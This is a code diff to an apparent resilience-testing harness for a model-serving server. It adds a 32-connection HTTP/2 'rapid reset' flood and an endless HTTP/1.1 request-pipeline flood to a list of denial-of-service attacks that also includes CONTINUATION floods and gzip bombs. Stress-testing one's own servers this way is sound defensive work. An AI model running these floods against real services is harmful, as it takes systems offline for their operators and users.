@@ -289,6 +289,30 @@ def flood(opening: bytes, waves: Waves, port: str = "grpc_port") -> Callable[...
     return attack
 
 
+def floods(number: int, opening: bytes, waves: Waves) -> Callable[..., Outcome]:
+    """The same on many connections at once, each begun anew when it is sent away."""
+
+    def attack(doors: Doors, _warden: Warden, until_s: float) -> Outcome:
+        answers: Counter[str] = Counter()
+        crowd: dict[Line, tuple[Iterator[bytes], memoryview]] = {}
+        while monotonic() < until_s:
+            while len(crowd) < number:
+                crowd[Line(doors.grpc_port)] = (waves(), memoryview(opening))
+            for line, (left, wave) in list(crowd.items()):
+                rest = wave[line.send(wave) :]
+                crowd[line] = (left, rest or memoryview(next(left)))
+                line.read()
+                if line.ended_s is not None:
+                    answers[line.answer or "nothing"] += 1
+                    line.close()
+                    del crowd[line]
+        for line in crowd:
+            line.close()
+        return Outcome(", ".join(f"{count:,}x {what}" for what, count in answers.most_common(2)))
+
+    return attack
+
+
 def forever(piece: bytes) -> Waves:
     """The same again and again."""
     wave = piece * max(WAVE_BYTES // len(piece), 1)
@@ -556,6 +580,7 @@ ENDLESS_POST: Final = b"POST /v1/models/half_plus_two:predict HTTP/1.1\r\nHost: 
 
 FLOODS: Final[dict[str, Callable[..., Outcome]]] = {
     "rapid reset": flood(HELLO, taken_back()),
+    "rapid reset, 32 lines at once": floods(32, HELLO, taken_back()),
     "CONTINUATION flood": flood(
         HELLO + begun(1, flags=0), forever(frame(CONTINUATION, 0, 1, b"\0\x01a\x01b"))
     ),
@@ -574,6 +599,9 @@ FLOODS: Final[dict[str, Callable[..., Outcome]]] = {
         b"GET / HTTP/1.1\r\n", forever(b"X: " + bytes(97).replace(b"\0", b"a")), "rest_port"
     ),
     "HTTP/1.1 garbage": flood(b"", forever(b"\xff\xfe\r\n"), "rest_port"),
+    "HTTP/1.1 pipeline without end": flood(
+        b"", forever(b"GET /v1/models/half_plus_two HTTP/1.1\r\n\r\n"), "rest_port"
+    ),
     "calls without a pause (honest, greedy)": greedy,
     "gzip bomb, gRPC": grpc_bomb,
     "gzip bomb, REST": rest_bomb,
